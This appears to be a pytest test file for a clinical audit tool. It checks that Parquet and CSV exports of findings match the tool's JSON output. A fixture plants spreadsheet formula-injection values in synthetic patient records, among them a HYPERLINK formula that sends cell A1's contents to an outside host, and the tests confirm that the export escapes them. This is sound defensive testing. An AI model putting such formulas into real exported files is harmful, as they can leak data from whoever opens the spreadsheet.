"""findings.parquet, findings.csv and summary.csv say what findings.ndjson and summary.json say."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest

from cds.audit import parquet
from cds.audit.findings import FIELDS
from cds.audit.line import FINDING_FIELDS
from cds.audit.parquet import schema, write_parquet
from cds.audit.strata import VERDICTS
from cds.audit.table import FINDING_COLUMNS, SUMMARY_COLUMNS
from tests.audit.population import LDN, WHEN, population, read, write_bundles
from tests.records import Json, bundle, drug, order, person, resource
from tests.test_cli import cds

Audited = tuple[Path, dict[str, Any]]
SPOKEN = {True: "card", "line": "line", False: "silent"}


def audited(folder: Path, *args: object) -> Audited:
    """The folder's audit with tables, beside it."""
    out = folder.with_name(f"{folder.name}-out")
    done = cds("audit", folder, "--out", out, "--csv", *args, *WHEN)
    assert done.returncode == 0, done.stderr
    return out, json.loads((out / "summary.json").read_text())


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> Audited:
    folder = tmp_path_factory.mktemp("tables") / "in"
    write_bundles(folder, population(16))
    (folder / "strange.json").write_text(json.dumps(bundle(*strange())))
    return audited(folder)


def strange() -> list[Json]:
    """A record whose words are meant for whoever opens it in a spreadsheet."""
    formula = '=HYPERLINK("https://example.org/?"&A1,"naltrexone 1.5 MG Oral Capsule")'
    return [
        person("@SUM(1+1)"),
        order("n", "", "@SUM(1+1)", medicationCodeableConcept=drug(LDN) | {"text": formula}),
        resource("Condition", "c", "@SUM(1+1)", code={"text": "fibromyalgia, \"widespread\"\r\nnéuf"}),
    ]  # fmt: skip


def test_parquet_holds_every_field_of_every_finding(found: Audited) -> None:
    out, _ = found
    table = pyarrow.parquet.read_table(out / "findings.parquet")
    assert table.schema.equals(schema())
    rows, lines = table.to_pylist(), read(out, "findings")
    assert len(rows) == len(lines) > 20
    for row, line in zip(rows, lines, strict=True):
        assert row.pop("asOfUtc") == datetime.fromisoformat(line["asOf"])
        assert tuple(row) == FINDING_FIELDS
        row["trace"] = json.loads(row["trace"])
        assert row == {**line, "card": SPOKEN[line["card"]]}


def test_the_same_findings_are_the_same_bytes(found: Audited, tmp_path: Path) -> None:
    (tmp_path / "findings.ndjson").write_bytes((found[0] / "findings.ndjson").read_bytes())
    write_parquet(tmp_path)
    again = (tmp_path / "findings.parquet").read_bytes()
    assert again == (found[0] / "findings.parquet").read_bytes()


def test_more_findings_than_fit_into_memory_are_several_groups_of_rows(
    found: Audited, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(parquet, "_ROWS", 7)
    (tmp_path / "findings.ndjson").write_bytes((found[0] / "findings.ndjson").read_bytes())
    write_parquet(tmp_path)
    file = pyarrow.parquet.ParquetFile(tmp_path / "findings.parquet")
    lines = read(found[0], "findings")
    assert file.num_row_groups == -(-len(lines) // 7)
    assert file.read().column("patient").to_pylist() == [line["patient"] for line in lines]


def test_without_a_finding_there_are_tables_without_rows(tmp_path: Path) -> None:
    write_bundles(tmp_path / "in", {"p1": [person()]})
    out, summary = audited(tmp_path / "in")
    assert summary["findings"] == 0
    table = pyarrow.parquet.read_table(out / "findings.parquet")
    assert table.num_rows == 0
    assert table.schema.equals(schema())
    assert [*cells(out / "findings.csv")] == [list(FINDING_COLUMNS)]


def test_duckdb_asks_parquet_and_csv(found: Audited) -> None:
    duckdb = pytest.importorskip("duckdb")
    out, summary = found
    fired = {rule["rule"]: rule["fired"] for rule in summary["rules"] if rule["fired"]}
    asked = f"select rule, count(distinct patient) from '{out}/findings.parquet' group by rule"
    assert dict(duckdb.sql(asked).fetchall()) == fired
    nested = f"select count(*) from (select unnest(facts, recursive := true) from '{out}/findings.parquet')"
    facts = sum(len(line["facts"]) for line in read(out, "findings"))
    assert duckdb.sql(nested).fetchall() == [(facts,)]
    rows = f"select count(*), count(distinct patient) from '{out}/findings.csv'"
    lines = read(out, "findings")
    assert duckdb.sql(rows).fetchall() == [(len(lines), len({line["patient"] for line in lines}))]


def cells(path: Path) -> Iterator[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        yield from csv.reader(file, strict=True)


def test_the_table_of_findings_has_a_row_a_finding(found: Audited) -> None:
    out, _ = found
    header, *rows = cells(out / "findings.csv")
    assert header == [name for name in FINDING_FIELDS if name != "trace"]
    lines = read(out, "findings")
    assert len(rows) == len(lines)
    for row, line in zip(rows, lines, strict=True):
        cell = dict(zip(header, row, strict=True))
        assert cell["rule"] == line["rule"]
        assert cell["patient"].removeprefix("'") == line["patient"]
        assert cell["sources"] == "; ".join(line["sources"])
        assert cell["card"] == SPOKEN[line["card"]]
        assert all(fact["is"] in cell["facts"] for fact in line["facts"])


def test_lines_end_and_cells_are_quoted_as_rfc_4180_says(found: Audited) -> None:
    data = (found[0] / "findings.csv").read_bytes()
    assert data.endswith(b"\r\n")
    assert b'""widespread""\r\nn\xc3\xa9uf' in data


def test_no_cell_is_a_formula(found: Audited) -> None:
    out, _ = found
    every = [cell for row in cells(out / "findings.csv") for cell in row]
    assert not [cell for cell in every if cell[:1] in "=+-@\t\r\n" and cell]
    assert "'@SUM(1+1)" in every


def test_the_table_of_counts_is_the_summary(found: Audited) -> None:
    out, summary = found
    header, *rows = cells(out / "summary.csv")
    assert header == list(SUMMARY_COLUMNS)
    told = {(row[0], row[2], row[3]): [int(cell) for cell in row[4:8]] for row in rows}
    assert len(told) == len(rows)
    for rule in summary["rules"]:
        counts = [rule[verdict] for verdict in VERDICTS]
        assert told.pop((rule["rule"], "all", "all")) == [summary["patients"]["judged"], *counts]
        for name, values in rule["by"].items():
            for value, by in values.items():
                expected = [summary["strata"][name][value], *(by[verdict] for verdict in VERDICTS)]
                assert told.pop((rule["rule"], name, value)) == expected
    assert not told


def test_columns_follow_the_fields() -> None:
    assert tuple(schema().names) == (*FINDING_FIELDS, "asOfUtc")
    assert FIELDS == FINDING_FIELDS
